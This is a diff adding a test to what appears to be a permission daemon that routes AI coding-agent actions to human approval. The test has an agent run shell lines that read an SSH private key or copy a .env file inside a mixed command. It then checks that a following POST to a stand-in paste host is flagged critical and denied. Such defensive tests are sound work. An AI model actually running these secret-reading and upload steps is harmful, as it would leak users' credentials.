@@ -190,6 +190,24 @@ describe('core daemon', () => {
     assert.equal((await exfil).decision, 'deny');
   });
 
+  test('a secret read inside a line that also writes, once allowed, is remembered: the next upload is critical (a read only counted when the whole line was a read)', async () => {
+    for (const command of ['cat ~/.ssh/id_ed25519; touch /repo/x', 'cp /repo/.env /repo/notes.txt']) {
+      const t = await newTask(`mixed ${command.slice(0, 10)}`);
+      await ui.call('grants.create', { task: t, action: 'write', resource: '/repo/**', effect: 'allow' });
+      const line = agent.call<AgentAnswer>('request', { source: 'claude-code', tool: 'Bash', action: 'execute', summary: command, args: { command }, cwd: '/repo', ...tk(t) });
+      const asked = await human.next();
+      assert.notEqual(asked.action, 'read', command);
+      await human.decide(asked.id, 'allow', 'once');
+      assert.equal((await line).decision, 'allow');
+      const exfil = agent.call<AgentAnswer>('request', { source: 'api', tool: 'http', action: 'transfer', resource: 'https://paste.example', summary: 'POST to paste', ...tk(t) });
+      const p = await human.next();
+      assert.equal(p.risk.level, 'critical', `${command}: ${JSON.stringify(p.risk)}`);
+      assert.ok(p.risk.reasons.some((r) => /read secrets/.test(r)), JSON.stringify(p.risk.reasons));
+      await human.decide(p.id, 'deny', 'once');
+      assert.equal((await exfil).decision, 'deny');
+    }
+  });
+
   test('ending a task kills its grants', async () => {
     const t = await newTask('ending');
     await ui.call('grants.create', { task: t, action: 'write', resource: '/e/**', effect: 'allow' });
